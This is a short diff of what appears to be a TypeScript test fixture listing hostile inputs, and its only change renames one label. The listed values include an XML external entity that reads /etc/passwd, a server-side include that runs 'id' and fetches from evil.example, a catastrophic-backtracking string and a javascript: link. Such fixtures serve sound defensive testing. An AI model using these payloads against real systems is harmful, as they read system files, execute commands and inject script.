@@ -29,7 +29,7 @@ const texts: Readonly<Record<string, string>> = {
   'an external entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
   'a server-side include': '<!--#exec cmd="id"--><esi:include src="https://evil.example/"/>',
   'catastrophic backtracking': `${'a'.repeat(60)}!${'.'.repeat(60)}@`,
-  'the sentence that stands for an empty message': 'Requested service: . Page: . Page: . Page: x y',
+  'the sentence that replaces an empty message': 'Requested service: . Page: . Page: . Page: x y',
   'a link': '[Pay](javascript:alert(1)) ![](https://evil.example/x.png) http://evil.example',
 };
 
